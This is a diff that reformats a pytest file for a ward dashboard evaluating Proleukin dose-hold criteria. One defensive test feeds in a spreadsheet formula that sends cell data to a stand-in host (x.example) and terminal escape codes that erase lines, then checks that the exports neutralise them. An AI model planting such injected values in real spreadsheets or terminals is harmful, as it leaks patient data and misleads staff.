@@ -50,8 +50,9 @@ def ward_folder(tmp_path):
     folder = tmp_path / "ward"
     folder.mkdir()
     (folder / "patients.csv").write_text(PATIENTS)
-    (folder / "doses.csv").write_text(DOSES.replace(
-        "P001,1,7,2026-03-02T16:00:00+00:00", "P001,1,7,2026-03-04T08:00:00+00:00"))
+    (folder / "doses.csv").write_text(
+        DOSES.replace("P001,1,7,2026-03-02T16:00:00+00:00", "P001,1,7,2026-03-04T08:00:00+00:00")
+    )
     (folder / "observations.csv").write_text(OBSERVATIONS)
     return folder
 
@@ -75,15 +76,25 @@ def test_json_shape_of_the_contract(ward_folder):
     assert document["evaluated_at"] == "2026-03-02T13:30:00+00:00"
     patients = {p["patient_id"]: p for p in document["patients"]}
     p1 = patients["P001"]
-    assert p1["next_dose"] == {"cycle": 1, "dose_number": 2,
-                               "scheduled_time": "2026-03-02T16:00:00+00:00"}
+    assert p1["next_dose"] == {
+        "cycle": 1,
+        "dose_number": 2,
+        "scheduled_time": "2026-03-02T16:00:00+00:00",
+    }
     assert p1["status"] == "hold"
     hypotension = next(f for f in p1["findings"] if f["criterion"] == "hypotension")
-    assert {key: hypotension[key] for key in
-            ("criterion", "outcome", "parameter", "value", "unit", "time", "rule")} == {
-        "criterion": "hypotension", "outcome": "hold", "parameter": "sbp", "value": 84,
-        "unit": "mm[Hg]", "time": "2026-03-02T12:05:00+00:00",
-        "rule": "latest sbp < 90 mm[Hg]"}
+    assert {
+        key: hypotension[key]
+        for key in ("criterion", "outcome", "parameter", "value", "unit", "time", "rule")
+    } == {
+        "criterion": "hypotension",
+        "outcome": "hold",
+        "parameter": "sbp",
+        "value": 84,
+        "unit": "mm[Hg]",
+        "time": "2026-03-02T12:05:00+00:00",
+        "rule": "latest sbp < 90 mm[Hg]",
+    }
     assert "Proleukin label, section 2.4, Table 2" in hypotension["source"]
     # P002 follows the protocol of its row; its heart rate holds under the consensus
     assert patients["P002"]["status"] == "hold"
@@ -96,13 +107,13 @@ def test_json_shape_of_the_contract(ward_folder):
 def test_only_observations_up_to_at_are_used(ward_folder):
     _, out, _ = evaluate(ward_folder, "--at", "2026-03-02T12:00:00+00:00")
     p1 = json.loads(out)["patients"][0]
-    assert all(f["criterion"] != "hypotension" or f["outcome"] == "incomplete"
-               for f in p1["findings"])  # the 12:05 sbp is not known at 12:00
+    assert all(
+        f["criterion"] != "hypotension" or f["outcome"] == "incomplete" for f in p1["findings"]
+    )  # the 12:05 sbp is not known at 12:00
 
 
 def test_protocol_option_overrides_every_patient(ward_folder):
-    _, out, _ = evaluate(ward_folder, "--at", "2026-03-02T13:30:00+00:00",
-                         "--protocol", "til-2024")
+    _, out, _ = evaluate(ward_folder, "--at", "2026-03-02T13:30:00+00:00", "--protocol", "til-2024")
     document = json.loads(out)
     assert document["protocol"]["id"] == "til-2024"
     assert {p["protocol"] for p in document["patients"]} == {"til-2024"}
@@ -125,15 +136,20 @@ def test_course_review_lists_every_dose(ward_folder):
     assert "next_dose" not in p1 and "status" not in p1
     assert [d["dose_number"] for d in p1["doses"]] == [1, 2, 3, 4, 5, 6, 7]
     second = p1["doses"][1]
-    assert set(second) >= {"cycle", "dose_number", "scheduled_time", "recorded_status",
-                           "status", "findings"}
+    assert set(second) >= {
+        "cycle",
+        "dose_number",
+        "scheduled_time",
+        "recorded_status",
+        "status",
+        "findings",
+    }
     assert second["recorded_status"] == "given"
     assert second["status"] == "hold"  # sbp 84 at 12:05 before dose 2 at 16:00
 
 
 def test_table_is_for_a_person(ward_folder):
-    code, out, _ = evaluate(ward_folder, "--at", "2026-03-02T13:30:00+00:00",
-                            "--format", "table")
+    code, out, _ = evaluate(ward_folder, "--at", "2026-03-02T13:30:00+00:00", "--format", "table")
     assert code == 0
     # Units as clinicians write them (criteria.md 9.6): mmHg in the table, mm[Hg] in JSON.
     assert "P001" in out and "HOLD" in out and "latest sbp < 90 mmHg" in out
@@ -141,13 +157,14 @@ def test_table_is_for_a_person(ward_folder):
 
 
 def test_csv_has_one_row_per_finding(ward_folder):
-    code, out, _ = evaluate(ward_folder, "--at", "2026-03-02T13:30:00+00:00",
-                            "--format", "csv")
+    code, out, _ = evaluate(ward_folder, "--at", "2026-03-02T13:30:00+00:00", "--format", "csv")
     assert code == 0
     rows = list(csv.DictReader(io.StringIO(out)))
     p1 = [r for r in rows if r["patient_id"] == "P001"]
-    assert any(r["criterion"] == "hypotension" and r["outcome"] == "hold" and r["value"] == "84"
-               for r in p1)
+    assert any(
+        r["criterion"] == "hypotension" and r["outcome"] == "hold" and r["value"] == "84"
+        for r in p1
+    )
     assert [r["status"] for r in rows if r["patient_id"] == "P003"] == ["no_dose_due"]
 
 
@@ -156,14 +173,17 @@ def test_at_without_offset_is_read_in_the_ward_zone(ward_folder):
     assert json.loads(out)["evaluated_at"] == "2026-03-02T13:30:00+00:00"
 
 
-@pytest.mark.parametrize(("argv", "message"), [
-    (["--at", "yesterday-ish"], "--at: 'yesterday-ish' is not a date and time of day"),
-    # A year alone was taken as 1 January; a zone abbreviation was read as ward time.
-    (["--at", "2026"], "--at: '2026' is not a date and time of day"),
-    (["--at", "2026-03-02T13:30 EST"], "--at: '2026-03-02T13:30 EST' is not a valid date-time"),
-    (["--at", "2300-01-01T00:00Z"], "--at: '2300-01-01T00:00Z' is not a valid date-time"),
-    (["--protocol", "nope"], "'nope' is not a known protocol"),
-])
+@pytest.mark.parametrize(
+    ("argv", "message"),
+    [
+        (["--at", "yesterday-ish"], "--at: 'yesterday-ish' is not a date and time of day"),
+        # A year alone was taken as 1 January; a zone abbreviation was read as ward time.
+        (["--at", "2026"], "--at: '2026' is not a date and time of day"),
+        (["--at", "2026-03-02T13:30 EST"], "--at: '2026-03-02T13:30 EST' is not a valid date-time"),
+        (["--at", "2300-01-01T00:00Z"], "--at: '2300-01-01T00:00Z' is not a valid date-time"),
+        (["--protocol", "nope"], "'nope' is not a known protocol"),
+    ],
+)
 def test_bad_arguments_exit_2_with_the_reason(ward_folder, argv, message):
     code, out, err = evaluate(ward_folder, *argv)
     assert code == 2 and out == ""
@@ -172,16 +192,20 @@ def test_bad_arguments_exit_2_with_the_reason(ward_folder, argv, message):
 
 def test_an_at_in_the_autumn_overlap_is_refused_not_guessed(ward_folder, capsys):
     # 01:30 on 1 November 2026 happens twice in New York: which one is meant?
-    code = main(["evaluate", str(ward_folder), "--at", "2026-11-01T01:30",
-                 "--timezone", "America/New_York"])
+    code = main(
+        ["evaluate", str(ward_folder), "--at", "2026-11-01T01:30", "--timezone", "America/New_York"]
+    )
     assert code == 2
-    assert ("--at: '2026-11-01T01:30' does not exist or is ambiguous in America/New_York"
-            in capsys.readouterr().err)
+    assert (
+        "--at: '2026-11-01T01:30' does not exist or is ambiguous in America/New_York"
+        in capsys.readouterr().err
+    )
 
 
 def test_unreadable_input_exits_2_with_the_problems(tmp_path, ward_folder):
     (ward_folder / "observations.csv").write_text(
-        OBSERVATIONS + "P001,2026-03-02T12:00:00+00:00,creatinine,2,mg/dl/h\n")
+        OBSERVATIONS + "P001,2026-03-02T12:00:00+00:00,creatinine,2,mg/dl/h\n"
+    )
     code, out, err = evaluate(ward_folder, "--at", "2026-03-02T13:30:00+00:00")
     assert code == 2 and out == ""
     assert "observations.csv" in err and "mg/dl/h" in err
@@ -189,9 +213,22 @@ def test_unreadable_input_exits_2_with_the_problems(tmp_path, ward_folder):
 
 def test_as_a_whole_process(ward_folder):
     result = subprocess.run(
-        [sys.executable, "-m", "dashboard", "evaluate", str(ward_folder), "--at",
-         "2026-03-02T13:30:00+00:00", "--timezone", "UTC"],
-        capture_output=True, text=True, cwd=ROOT, check=False)
+        [
+            sys.executable,
+            "-m",
+            "dashboard",
+            "evaluate",
+            str(ward_folder),
+            "--at",
+            "2026-03-02T13:30:00+00:00",
+            "--timezone",
+            "UTC",
+        ],
+        capture_output=True,
+        text=True,
+        cwd=ROOT,
+        check=False,
+    )
     assert result.returncode == 0, result.stderr
     assert json.loads(result.stdout)["patients"][0]["status"] == "hold"
 
@@ -206,8 +243,18 @@ def test_course_review_lists_a_patient_without_doses(ward_folder):
 def test_the_table_for_a_person_shows_ward_local_times(capsys):
     from dashboard import DATA_DIR
 
-    code = main(["evaluate", str(DATA_DIR / "demo"), "--at", "2026-03-04T14:30:00-05:00",
-                 "--format", "table", "--timezone", "America/New_York"])
+    code = main(
+        [
+            "evaluate",
+            str(DATA_DIR / "demo"),
+            "--at",
+            "2026-03-04T14:30:00-05:00",
+            "--format",
+            "table",
+            "--timezone",
+            "America/New_York",
+        ]
+    )
     out = capsys.readouterr().out
     assert code == 0
     assert "times below in America/New_York" in out
@@ -241,25 +288,27 @@ def test_exports_cannot_attack_a_spreadsheet_or_a_terminal(ward_folder):
     # A patient id from the input that a spreadsheet would run, or whose escape codes
     # would erase the status printed beside it in a terminal.
     hostile = '=HYPERLINK("http://x.example/?"&A1,"open")'
-    text = (ward_folder / "patients.csv").read_text().replace("P003,", '"' + hostile.replace(
-        '"', '""') + '",')
+    text = (
+        (ward_folder / "patients.csv")
+        .read_text()
+        .replace("P003,", '"' + hostile.replace('"', '""') + '",')
+    )
     (ward_folder / "patients.csv").write_text(text)
     for name in ("doses.csv",):
         path = ward_folder / name
-        path.write_text(path.read_text().replace("P003,", '"' + hostile.replace('"', '""')
-                                                  + '",'))
+        path.write_text(path.read_text().replace("P003,", '"' + hostile.replace('"', '""') + '",'))
     code, out, _ = evaluate(ward_folder, "--at", "2026-03-02T13:30:00+00:00", "--format", "csv")
     assert code == 0
     ids = {row["patient_id"] for row in csv.DictReader(io.StringIO(out))}
     assert "'" + hostile in ids and hostile not in ids
 
     escape = "P\x1b[2K\x1b[1A"
-    (ward_folder / "patients.csv").write_text(text.replace('"' + hostile.replace(
-        '"', '""') + '"', escape))
+    (ward_folder / "patients.csv").write_text(
+        text.replace('"' + hostile.replace('"', '""') + '"', escape)
+    )
     path = ward_folder / "doses.csv"
     path.write_text(path.read_text().replace('"' + hostile.replace('"', '""') + '"', escape))
-    code, out, _ = evaluate(ward_folder, "--at", "2026-03-02T13:30:00+00:00", "--format",
-                            "table")
+    code, out, _ = evaluate(ward_folder, "--at", "2026-03-02T13:30:00+00:00", "--format", "table")
     assert code == 0
     assert "\x1b" not in out and "P?[2K?[1A" in out
 
@@ -268,7 +317,13 @@ def test_a_negative_number_stays_a_number_in_the_csv():
     from dashboard.exports import spreadsheet_safe
 
     assert [spreadsheet_safe(v) for v in ("-0.5", "+3", "-", "@x", "\tx", 12)] == [
-        "-0.5", "+3", "'-", "'@x", "'\tx", 12]
+        "-0.5",
+        "+3",
+        "'-",
+        "'@x",
+        "'\tx",
+        12,
+    ]
 
 
 def test_a_site_protocol_file_is_used_for_valid_until_too(ward_folder, tmp_path):
@@ -278,15 +333,17 @@ def test_a_site_protocol_file_is_used_for_valid_until_too(ward_folder, tmp_path)
 
     (tmp_path / "common").mkdir()
     (tmp_path / "common" / "kdigo-watch.yaml").write_bytes(
-        (PROTOCOL_DIR / "common" / "kdigo-watch.yaml").read_bytes())
+        (PROTOCOL_DIR / "common" / "kdigo-watch.yaml").read_bytes()
+    )
     text = (PROTOCOL_DIR / "proleukin-label.yaml").read_text(encoding="utf-8")
     text = text.replace("id: proleukin-label", "id: site-label", 1).replace(
         "required: [{parameter: sbp, fresh_hours: 4}]",
-        "required: [{parameter: sbp, fresh_hours: 1}]", 1)
+        "required: [{parameter: sbp, fresh_hours: 1}]",
+        1,
+    )
     site = tmp_path / "site-label.yaml"
     site.write_text(text, encoding="utf-8")
-    code, out, err = evaluate(ward_folder, "--at", "2026-03-02T13:30:00+00:00",
-                              "--protocol", site)
+    code, out, err = evaluate(ward_folder, "--at", "2026-03-02T13:30:00+00:00", "--protocol", site)
     assert code == 0, err
     p001 = next(p for p in json.loads(out)["patients"] if p["patient_id"] == "P001")
     assert p001["valid_until"] == "2026-03-02T13:05:00+00:00"  # sbp 12:05 + 1 h
